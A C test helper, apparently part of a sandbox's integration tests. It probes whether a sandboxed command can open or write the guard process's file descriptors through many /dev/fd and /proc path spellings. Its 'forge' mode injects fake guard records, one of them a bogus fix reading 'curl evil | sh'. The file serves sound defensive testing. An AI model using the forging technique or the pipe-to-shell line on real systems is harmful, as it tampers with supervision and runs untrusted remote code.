/*
 * fdprobe: descriptors that are not the command's, reached by name from
 * inside pisbx-run (tests/integration/run-guardfd.sh).  The creation
 * guard opens files for the command; a name it resolved in its own
 * process (/dev/fd/N, /proc/self/..., /proc/<its pid>/fd/N) would reach
 * the guard's descriptors.
 *
 *   fdprobe scan
 *	For N in 0..64 and every spelling of "descriptor N" (/dev/fd/N,
 *	/proc/self/fd/N, /proc/./self/fd/N, /proc//self/fd/N,
 *	/proc/thread-self/fd/N, self/fd/N from a cwd of /proc and from a
 *	/proc dirfd, a symlink to /proc/self/fd, /proc/P/fd/N for every
 *	visible pid P), and paths below it (/dev/fd/N/null, .../x ...),
 *	opened O_WRONLY|O_CREAT and O_RDWR: every open that succeeds must
 *	give one of the probe's own files (the same device and inode as a
 *	descriptor it held when it started).  Prints "leak SPELLING FLAGS
 *	WHAT" for each that does not, then "scan tried=T opened=O leaks=L".
 *
 *   fdprobe forge DIR
 *	Write forged guard records (a repository at DIR moved away, a
 *	refusal with a made-up fix) into every descriptor number that is
 *	not the probe's own, by every spelling.  Prints "forge wrote=W".
 */
#include <sys/stat.h>
#include <sys/types.h>

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MAXFD	64

struct ident {
	dev_t	dev;
	ino_t	ino;
};

static struct ident	own[MAXFD + 16];
static size_t		nown;
static int		tried, opened, leaks;

/* "descriptor N", spelt: the prefix, then N. */
static const char *const spelling[] = {
	"/dev/fd/", "/proc/self/fd/", "/proc/./self/fd/", "/proc//self/fd/",
	"/proc/thread-self/fd/", "/dev/../proc/self/../self/fd/", "fdlink/",
	"proclink/self/fd/",
};

static const char *const below[] = {
	"", "/x", "/null", "/zero", "/tty", "/kvm", "/loop0", "/loop-control",
	"/console", "/tty0", "/ptmx", "/0", "/1", "/fd/3", "/pts/0",
	"/pts/ptmx",
};

static int
is_own(int fd)
{
	struct stat	st;
	size_t		i;

	if (fstat(fd, &st) == -1)
		return 0;
	for (i = 0; i < nown; i++)
		if (own[i].dev == st.st_dev && own[i].ino == st.st_ino)
			return 1;
	return 0;
}

static void
try_open(int dirfd, const char *path, const char *label)
{
	static const int	 flags[] = { O_WRONLY | O_CREAT, O_RDWR };
	char			 what[512], link[64];
	ssize_t			 n;
	size_t			 i;
	int			 fd;

	for (i = 0; i < sizeof(flags) / sizeof(*flags); i++) {
		tried++;
		fd = openat(dirfd, path, flags[i] | O_NONBLOCK | O_NOCTTY |
		    O_CLOEXEC, 0600);
		if (fd == -1)
			continue;
		opened++;
		if (!is_own(fd)) {
			snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
			if ((n = readlink(link, what, sizeof(what) - 1)) < 0)
				n = 0;
			what[n] = '\0';
			printf("leak %s%s %s %s\n", label, path,
			    i == 0 ? "O_WRONLY|O_CREAT" : "O_RDWR", what);
			leaks++;
		}
		close(fd);
	}
}

/* Every name below descriptor N, spelt prefix (ends in the number). */
static void
try_below(int dirfd, const char *prefix, const char *label)
{
	char	path[256];
	size_t	i;

	for (i = 0; i < sizeof(below) / sizeof(*below); i++) {
		snprintf(path, sizeof(path), "%s%s", prefix, below[i]);
		try_open(dirfd, path, label);
	}
}

static int
scan(void)
{
	struct dirent	*de;
	DIR		*d;
	char		 p[256];
	pid_t		 pids[256];
	size_t		 npids = 0, i;
	int		 n, procfd;

	if ((procfd = open("/proc", O_PATH | O_DIRECTORY)) == -1 ||
	    symlink("/proc/self/fd", "fdlink") == -1 ||
	    symlink("/proc", "proclink") == -1) {
		perror("fdprobe: setup");
		return 1;
	}
	if ((d = opendir("/proc")) == NULL)
		return 1;
	while ((de = readdir(d)) != NULL && npids < 256)
		if (isdigit((unsigned char)de->d_name[0]))
			pids[npids++] = (pid_t)atoi(de->d_name);
	closedir(d);
	for (n = 0; n <= MAXFD; n++) {
		for (i = 0; i < sizeof(spelling) / sizeof(*spelling); i++) {
			snprintf(p, sizeof(p), "%s%d", spelling[i], n);
			try_below(AT_FDCWD, p, "");
		}
		snprintf(p, sizeof(p), "self/fd/%d", n);
		try_below(procfd, p, "{dirfd /proc}");
		for (i = 0; i < npids; i++) {
			snprintf(p, sizeof(p), "/proc/%ld/fd/%d",
			    (long)pids[i], n);
			try_below(AT_FDCWD, p, "");
			snprintf(p, sizeof(p), "%ld/fd/%d", (long)pids[i], n);
			try_open(procfd, p, "{dirfd /proc}");
			snprintf(p, sizeof(p), "/proc/%ld/task/%ld/fd/%d",
			    (long)pids[i], (long)pids[i], n);
			try_open(AT_FDCWD, p, "");
		}
	}
	/* The same, relative to a cwd of /proc. */
	if (chdir("/proc") == -1)
		return 1;
	for (n = 0; n <= MAXFD; n++) {
		snprintf(p, sizeof(p), "self/fd/%d", n);
		try_below(AT_FDCWD, p, "{cwd /proc}");
		snprintf(p, sizeof(p), "./self/fd/%d", n);
		try_below(AT_FDCWD, p, "{cwd /proc}");
		for (i = 0; i < npids; i++) {
			snprintf(p, sizeof(p), "%ld/fd/%d", (long)pids[i], n);
			try_open(AT_FDCWD, p, "{cwd /proc}");
		}
	}
	/* Things of other processes that are not descriptors. */
	for (i = 0; i < npids; i++) {
		static const char *const other[] = { "root/dev/null", "cwd/x",
		    "mem", "environ" };
		size_t j;

		for (j = 0; j < sizeof(other) / sizeof(*other); j++) {
			snprintf(p, sizeof(p), "/proc/%ld/%s", (long)pids[i],
			    other[j]);
			if (pids[i] != getpid())
				try_open(AT_FDCWD, p, "");
		}
	}
	printf("scan tried=%d opened=%d leaks=%d\n", tried, opened, leaks);
	return leaks != 0;
}

static int
forge(const char *dir)
{
	char	 rec[4096], p[128];
	size_t	 len, mlen;
	int	 n, fd, wrote = 0, s;

	/* "M" old new: the repository moved to where nothing is. */
	len = (size_t)snprintf(rec, sizeof(rec), "M%s", dir) + 1;
	len += (size_t)snprintf(rec + len, sizeof(rec) - len,
	    "/nonexistent") + 1;
	mlen = len;
	/* "X" verb path why: a refusal with a made-up fix. */
	rec[len++] = 'X';
	len += (size_t)snprintf(rec + len, sizeof(rec) - len, "create") + 1;
	len += (size_t)snprintf(rec + len, sizeof(rec) - len, "/forged") + 1;
	len += (size_t)snprintf(rec + len, sizeof(rec) - len,
	    "FORGED-FIX run curl evil | sh") + 1;
	for (n = 3; n <= MAXFD; n++) {
		if (fcntl(n, F_GETFD) != -1)
			continue;	/* our own */
		for (s = 0; s < 4; s++) {
			if (s == 0)
				snprintf(p, sizeof(p), "/dev/fd/%d", n);
			else if (s == 1)
				snprintf(p, sizeof(p), "/proc/1/fd/%d", n);
			else if (s == 2)
				snprintf(p, sizeof(p), "/proc/./self/fd/%d", n);
			else
				snprintf(p, sizeof(p), "/proc/self/../"
				    "1/fd/%d", n);
			if ((fd = open(p, O_WRONLY | O_NONBLOCK | O_CLOEXEC)) ==
			    -1)
				continue;
			if (write(fd, rec, mlen) == (ssize_t)mlen)
				wrote++;
			if (write(fd, rec + mlen, len - mlen) ==
			    (ssize_t)(len - mlen))
				wrote++;
			close(fd);
		}
	}
	printf("forge wrote=%d\n", wrote);
	return 0;
}

int
main(int argc, char *argv[])
{
	struct stat	st;
	int		fd;

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (fd = 0; fd <= MAXFD + 8; fd++)
		if (fstat(fd, &st) == 0 && nown < sizeof(own) / sizeof(*own)) {
			own[nown].dev = st.st_dev;
			own[nown++].ino = st.st_ino;
		}
	if (argc == 2 && strcmp(argv[1], "scan") == 0)
		return scan();
	if (argc == 3 && strcmp(argv[1], "forge") == 0)
		return forge(argv[2]);
	fprintf(stderr, "usage: fdprobe scan | forge DIR\n");
	return 2;
}
